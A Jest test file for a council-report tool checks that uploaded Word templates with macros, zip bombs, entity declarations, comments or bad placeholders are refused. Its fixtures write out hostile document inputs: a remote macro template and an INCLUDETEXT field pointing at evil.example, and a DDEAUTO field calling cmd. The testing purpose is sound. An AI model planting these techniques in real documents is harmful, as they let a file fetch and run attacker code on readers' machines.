import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pdf, wordEntries, zip } from '../../evidence/testing/made-files.js';
import { readPackage } from '../docx/package.js';
import { fullCouncilForm } from '../forms/full-council.js';
import { type ExaminedTemplate, examineTemplate } from './examine-template.js';
import { goodTemplate, withParts } from './testing/made-templates.js';

let folder: string;
let good: Buffer;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'template-'));
  good = await goodTemplate();
});
afterAll(() => rm(folder, { recursive: true }));

async function examine(bytes: Uint8Array, name = 'Council report.docx'): Promise<ExaminedTemplate> {
  const path = join(folder, 'received');
  await writeFile(path, bytes);
  return examineTemplate(path, name, bytes.length, fullCouncilForm);
}

async function reasons(bytes: Uint8Array, name?: string): Promise<readonly string[]> {
  const examined = await examine(bytes, name);
  return 'refused' in examined ? examined.refused : [];
}

const part = async (name: string): Promise<string> => (await readPackage(good)).get(name)?.toString('utf8') ?? '';
const within = async (added: string): Promise<string> =>
  (await part('word/document.xml')).replace('<w:body>', `<w:body><w:p><w:r>${added}</w:r></w:p>`);

describe('a template that is fit', () => {
  it('is taken, with the fields that it has no place for', async () => {
    const examined = await examine(good);
    expect(examined).toEqual({
      used: expect.arrayContaining(['title', 'report-to', 'purpose', 'legal', 'sections']) as unknown,
      missing: expect.arrayContaining(['Financial', 'Background papers']) as unknown,
    });
    const missing = 'missing' in examined ? examined.missing : [];
    expect(missing).not.toContain('Purpose of report');
    expect(missing).not.toContain('Introduction and method');
    expect(await examine(await goodTemplate(['{{banner}}', '{{front-sheet}}']))).toMatchObject({ missing: [] });
  });
});

describe('a file that must not come in as a template', () => {
  it('is anything but a Word document, whatever its name says', async () => {
    expect(await reasons(good, 'report.pdf')).toEqual(['Choose a Word document (.docx).']);
    expect((await reasons(good, 'report.docm'))[0]).toContain('macros');
    expect((await reasons(good, 'report.doc'))[0]).toContain('older kind');
    expect((await reasons(pdf))[0]).toContain('damaged');
    expect((await reasons(zip([{ name: 'readme.txt', content: 'hello' }])))[0]).toContain('not a Word document');
  });

  it('is an archive that unpacks to far more than it holds', async () => {
    const bomb = zip([...wordEntries(), { name: 'word/media/a.png', content: Buffer.alloc(30 * 1024 * 1024) }]);
    expect((await reasons(bomb))[0]).toContain('unpacks to far more');
    const many = zip([...wordEntries(), { name: 'word/media/a.png', content: randomBytes(6 * 1024 * 1024) }]);
    expect(await reasons(many)).toEqual([expect.stringContaining('5 MB') as unknown]);
  });

  it('is one with macros, also under another name', async () => {
    const vba = await withParts(good, { 'word/vbaProject.bin': 'x' });
    expect(await reasons(vba)).toEqual([expect.stringContaining('macros') as unknown]);
    const types = (await part('[Content_Types].xml')).replace(
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    );
    expect(await reasons(await withParts(good, { '[Content_Types].xml': types }))).toEqual([
      expect.stringContaining('macros') as unknown,
    ]);
  });

  it('is one that reaches out: a template behind it, a linked picture, an object, a field that fetches', async () => {
    const rels = (type: string, target: string, mode = ' TargetMode="External"') =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`;
    const refusedFor = async (name: string, content: string) =>
      (await reasons(await withParts(good, { [name]: content })))[0];
    const settings = 'word/_rels/settings.xml.rels';
    expect(await refusedFor(settings, rels('attachedTemplate', 'https://evil.example/t.dotm'))).toContain(
      'another template',
    );
    expect(await refusedFor(settings, rels('image', 'https://evil.example/a.png'))).toContain('fetches something');
    expect(await refusedFor(settings, rels('hyperlink', 'file://server/share'))).toContain('fetches something');
    expect(await refusedFor(settings, rels('oleObject', 'embeddings/a.bin', ''))).toContain('embedded object');
    expect(await refusedFor('word/embeddings/oleObject1.bin', 'x')).toContain('embedded object');
    expect(await refusedFor(settings, rels('hyperlink', 'https://www.example.org/'))).toBeUndefined();
    for (const field of [
      '<w:instrText> INCLUDETEXT "http://evil.example/a" </w:instrText>',
      '<w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd </w:instrText>',
    ])
      expect(await refusedFor('word/document.xml', await within(field))).toContain('fetches something');
    expect(await refusedFor('word/document.xml', await within('<w:instrText> PAGE </w:instrText>'))).toBeUndefined();
  });

  it('is one with a document type, comments or tracked changes', async () => {
    const entity = (await part('word/document.xml')).replace(
      /<w:document/u,
      '<!DOCTYPE a [<!ENTITY b "c">]><w:document',
    );
    expect((await reasons(await withParts(good, { 'word/document.xml': entity })))[0]).toContain('damaged');
    const tracked = await within('<w:t>a</w:t></w:r><w:ins w:id="1" w:author="A"><w:r><w:t>b</w:t></w:r></w:ins><w:r>');
    expect((await reasons(await withParts(good, { 'word/document.xml': tracked })))[0]).toContain('tracked changes');
    const comment = '<w:comments xmlns:w="w"><w:comment w:id="1" w:author="A"/></w:comments>';
    expect((await reasons(await withParts(good, { 'word/comments.xml': comment })))[0]).toContain('comments');
  });
});

describe('placeholders of a template', () => {
  it('are needed', async () => {
    const plain = (await part('word/document.xml')).replaceAll(/\{\{?|\}\}?/gu, '');
    const header = (await part('word/header1.xml')).replaceAll(/\{\{?|\}\}?/gu, '');
    expect(await reasons(await withParts(good, { 'word/document.xml': plain, 'word/header1.xml': header }))).toEqual([
      expect.stringContaining('no placeholder') as unknown,
    ]);
  });

  it('are told by name and place when they are wrong, all at once', async () => {
    const template = await goodTemplate([
      'See {{leagl}} for law',
      '{{Purpose}}',
      'Half {{legal} only',
      'All: {{sections}}',
    ]);
    const document = (await readPackage(template)).get('word/document.xml')?.toString('utf8') ?? '';
    const wrong = await withParts(template, {
      'word/document.xml': document.replace('{{legal}}', '{{legals}}'),
      'word/header1.xml': (await part('word/header1.xml')).replace('{{council}}', '{{councl}} {{front-sheet}}'),
    });
    expect([...(await reasons(wrong))].sort()).toEqual(
      [
        'A placeholder is not whole in the text: “Half {{legal} only”. Write it as {{name}}.',
        '{{legals}} in table 1, row 2: “{{legals}}”. No field of this form is called so.',
        '{{leagl}} in the text: “See {{leagl}} for law”. No field of this form is called so.',
        '{{Purpose}} in the text: “{{Purpose}}”. Did you mean {{purpose}}?',
        '{{sections}} in the text: “All: {{sections}}”. It takes whole paragraphs: put it in a paragraph of its own.',
        '{{councl}} in the header: “{{councl}} {{front-sheet}}: {{title}}”. No field of this form is called so.',
        '{{front-sheet}} in the header: it takes whole paragraphs, and those stand in the text only.',
      ].sort(),
    );
  });
});
